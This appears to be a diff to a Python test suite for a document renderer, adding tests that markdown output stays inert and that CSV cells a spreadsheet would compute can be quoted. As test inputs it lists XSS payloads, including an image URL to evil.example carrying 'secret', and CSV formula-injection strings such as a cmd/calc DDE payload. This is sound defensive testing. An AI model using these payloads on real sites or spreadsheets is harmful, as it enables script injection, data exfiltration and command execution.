@@ -22,6 +22,7 @@ from tests.extractor.html_grid import GridCell, html_grid
 
 VIEWS: tuple[Output, ...] = ("markdown", "text", "html")
 ODD = 'a_b_c & "d" < e > f * g | h # i ~ j ` k $1,140.00 \\ {x} [y](z) <script>alert(1)</script> ÄÖß 漢 😀'
+INERT = ODD.replace("<script>", "&lt;script>").replace("</script>", "&lt;/script>")
 
 
 def element(text: str, label: DocItemLabel = DocItemLabel.TEXT, **keys: Any) -> Element:
@@ -84,7 +85,9 @@ class TestCharacters:
         ],
     )
     def test_stand_as_they_are_and_once(self, label: DocItemLabel, view: str) -> None:
-        assert rendered(element(ODD, label))[view].count(ODD) == 1
+        # In markdown what would be a live tag is none, except in a block of code, which is shown as it is.
+        inert = view == "markdown" and label != DocItemLabel.CODE
+        assert rendered(element(ODD, label))[view].count(INERT if inert else ODD) == 1
 
     def test_html_is_escaped(self) -> None:
         labels = (DocItemLabel.TEXT, DocItemLabel.TITLE, DocItemLabel.CODE, DocItemLabel.FORMULA, DocItemLabel.CAPTION)
@@ -107,6 +110,34 @@ class TestCharacters:
 
 
 class TestMarkdown:
+    @pytest.mark.parametrize(
+        "attack",
+        [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "</td></tr></table><iframe src=//evil>",
+            "<!-- <b> -->",
+            "<?php ?>",
+            "![](https://evil.example/?q=secret)",
+        ],
+    )
+    def test_no_text_is_live(self, attack: str) -> None:
+        labels = (DocItemLabel.TEXT, DocItemLabel.TITLE, DocItemLabel.FORMULA, DocItemLabel.CAPTION)
+        parts = [element(attack, label) for label in labels]
+        parts += [element(f"- {attack}", DocItemLabel.LIST_ITEM, marker="-", level=1), table(cell(0, 0, attack))]
+        parts.append(table(cell(0, 0, attack, across=2), cell(1, 0, "a"), cell(1, 1, "b")))
+        markdown = rendered(*parts)["markdown"]
+        assert not re.search(r"<(?!/?(table|tr|td|th|br)\b)[A-Za-z/!?]", re.sub(r"<!-- image -->", "", markdown))
+        assert markdown.count("</table>") == 1
+        assert not any("![" in line for line in markdown.split("\n") if not line.startswith("<tr"))
+
+    def test_code_is_fenced_off_whatever_is_in_it(self) -> None:
+        markdown = rendered(element("```\n<script>alert(1)</script>\n```", DocItemLabel.CODE))["markdown"]
+        fence = markdown.split("\n", 1)[0]
+        assert set(fence) == {"`"}
+        assert len(fence) > 3
+        assert markdown.rstrip().endswith(fence)
+
     def test_headings_have_their_levels(self) -> None:
         shown = rendered(
             element("Report", DocItemLabel.TITLE, level=1),
@@ -118,7 +149,7 @@ class TestMarkdown:
         assert shown["text"] == "Report\n\nPart\n\nChapter\n\nRunning text\n"
 
     def test_table_without_spans_is_a_pipe_table(self) -> None:
-        odd = ODD.replace("|", "\\|")
+        odd = INERT.replace("|", "\\|")
         assert rendered(PLAIN)["markdown"] == (
             f"| Berth | Vessel \\| flag |\n| --- | --- |\n| 4 | Anna Maria |\n|  | {odd} |\n"
         )
@@ -368,3 +399,22 @@ class TestTies:
                 "confidence": 0.75,
             }
         ]
+
+
+FORMULAS = (
+    *("=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1)", "\t=1+1", "\r=1", "-x"),
+    *("\uff1d1+1", "\uff0b1+x", "\uff0dx", "\uff20x"),
+)
+NO_FORMULAS = ("-12.50", "+3", "-1,140.00", "- 5 %", "-", "+49 30 1234", "-5 €", "a=b", "80.90", "-1'000.5", "")
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *NO_FORMULAS])
+def test_cells_that_a_spreadsheet_would_compute_are_quoted_on_demand_only(text: str) -> None:
+    page = AssembledPage(1, 595, 842, (table(cell(0, 0, text), cell(0, 1, "total")),))
+
+    def first_cell(*choice: Any) -> str:
+        (answer,) = render([page], ["csv"], **dict(zip(["csv_formulas"], choice, strict=False)))["csv"]
+        return next(csv.reader(io.StringIO(answer)))[0]
+
+    assert first_cell() == first_cell("keep") == text
+    assert first_cell("quote") == ("'" + text if text in FORMULAS else text)
